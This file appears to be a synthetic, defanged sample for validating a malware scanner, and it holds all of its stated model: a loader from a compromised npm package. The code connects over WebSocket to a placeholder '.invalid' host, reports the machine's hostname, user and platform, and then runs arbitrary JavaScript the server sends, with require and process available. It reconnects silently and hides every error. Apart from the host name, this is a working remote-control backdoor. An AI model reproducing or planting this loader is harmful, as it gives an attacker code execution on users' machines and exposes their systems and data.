// SYNTHETIC, DEFANGED malwi validation sample - modelled on the compromised "is" package (July 2025, WebSocket loader); never run.
// Cross-platform loader: open a WebSocket, introduce the machine, and run every JavaScript
// message the server sends through new Function with require in scope.
(function () {
  try {
    var WebSocket = require('ws');
    var os = require('os');
    var url = 'wss://' + ['ws', 'sync', 'example'].join('-') + '.invalid/agent';
    var sock;
    var start = function () {
      sock = new WebSocket(url, { rejectUnauthorized: false });
      sock.on('open', function () {
        sock.send(JSON.stringify({ t: 'hello', h: os.hostname(), u: os.userInfo().username, p: os.platform(), a: os.arch(), v: process.version, c: process.cwd() }));
      });
      sock.on('message', function (data) {
        var msg;
        try {
          msg = JSON.parse(String(data));
        } catch (e) {
          return;
        }
        if (msg.t === 'js') {
          try {
            var out = new Function('require', 'module', 'process', msg.code)(require, module, process);
            sock.send(JSON.stringify({ t: 'res', id: msg.id, r: String(out) }));
          } catch (e) {
            sock.send(JSON.stringify({ t: 'err', id: msg.id, e: String(e) }));
          }
        }
      });
      sock.on('close', function () {
        setTimeout(start, 30000);
      });
      sock.on('error', function () {});
    };
    setTimeout(start, 1000);
  } catch (e) {}
})();
